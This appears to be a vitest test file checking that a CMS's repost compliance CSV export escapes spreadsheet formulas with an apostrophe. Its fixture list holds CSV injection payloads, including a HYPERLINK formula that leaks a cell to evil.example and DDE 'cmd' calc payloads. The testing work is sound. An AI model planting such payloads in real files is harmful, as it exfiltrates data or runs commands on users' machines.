import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { chinaDay } from '../../src/calendar/chinaTime'
import { csvCell } from '../../src/exports/csv'
import { clientAs, createSite, createUser } from '../support/fixtures'
import { startTestServer, type TestServer } from '../support/payload'

/** CSV exports neutralise spreadsheet formulas (=, +, -, @, tab, CR) in text cells: CSV injection. */

let server: TestServer
const evilNames = [
  '=HYPERLINK("https://evil.example/?x="&A1,"点击查看")',
  "+cmd|' /C calc'!A0",
  '-2+3',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
]

beforeAll(async () => {
  server = await startTestServer()
}, 120_000)
afterAll(async () => server?.close())

describe('csvCell', () => {
  it('prefixes formula starts with an apostrophe and leaves numbers alone', () => {
    for (const name of evilNames) expect(csvCell(name).replace(/^"/, '').startsWith("'")).toBe(true)
    expect(csvCell(-3)).toBe('-3')
    expect(csvCell('宁夏')).toBe('宁夏')
  })
})

describe('the repost compliance CSV over HTTP', () => {
  it('a site named like a formula comes out as text', async () => {
    const { payload } = server
    const source = await createSite(payload, { name: '来源网站', level: 'region' })
    const supervisor = await createUser(payload, { roles: ['supervisor'] })
    let n = 0
    for (const name of evilNames) {
      const target = await createSite(payload, { name, level: 'city' })
      n++
      await payload.create({
        collection: 'reposts',
        overrideAccess: true,
        data: {
          title: `转载${n}`,
          originalCollection: 'articles',
          originalId: String(n),
          sourceSite: source.id,
          targetSite: target.id,
          mode: 'review',
          status: 'submitted',
          dueAt: new Date(Date.now() - 3600_000).toISOString(),
        } as never,
      })
    }
    const sup = await clientAs(server.url, supervisor)
    const from = chinaDay(Date.now() - 3 * 86400_000)
    const to = chinaDay(Date.now() + 3 * 86400_000)
    const response = await fetch(`${server.url}/api/reposts/compliance?format=csv&from=${from}&to=${to}`, {
      headers: { Authorization: `JWT ${sup.token}` },
    })
    expect(response.status).toBe(200)
    const csv = await response.text()
    // Each cell, after CSV unquoting, must not begin with a formula character.
    const cells = parseCsv(csv.replace(/^\uFEFF/, ''))
    const names = cells.map((row) => row[0] ?? '')
    for (const name of evilNames) expect(names).toContain(`'${name}`)
    for (const cell of cells.flat()) expect(/^[=+@\t\r]/.test(cell) || /^-[^\d]/.test(cell), cell).toBe(false)
  })
})

/** Just enough RFC 4180 to read the export back. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = []
  let row: string[] = []
  let cell = ''
  let quoted = false
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"'
        i++
      } else if (c === '"') quoted = false
      else cell += c
    } else if (c === '"') quoted = true
    else if (c === ',') {
      row.push(cell)
      cell = ''
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(cell)
      rows.push(row)
      row = []
      cell = ''
      i++
    } else cell += c
  }
  if (cell || row.length) {
    row.push(cell)
    rows.push(row)
  }
  return rows
}
